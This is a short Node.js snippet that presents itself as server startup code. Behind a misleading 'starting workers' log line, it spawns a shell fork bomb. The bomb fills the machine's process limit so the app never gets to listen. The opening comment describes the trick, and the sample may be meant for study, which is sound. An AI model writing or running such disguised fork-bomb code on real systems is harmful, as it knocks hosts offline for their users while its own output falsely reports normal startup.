// "Starts its workers" before listening, but every worker starts two more: a fork loop that
// fills the process limit and never lets the app get to listen().
const { spawn } = require('node:child_process');

const bomb = spawn('sh', ['-c', 'f() { f | f & }; f; sleep 600'], { stdio: 'inherit' });
bomb.on('error', (err) => console.error(`could not start workers: ${err.code}`));
console.log('starting workers, listening once they are up');
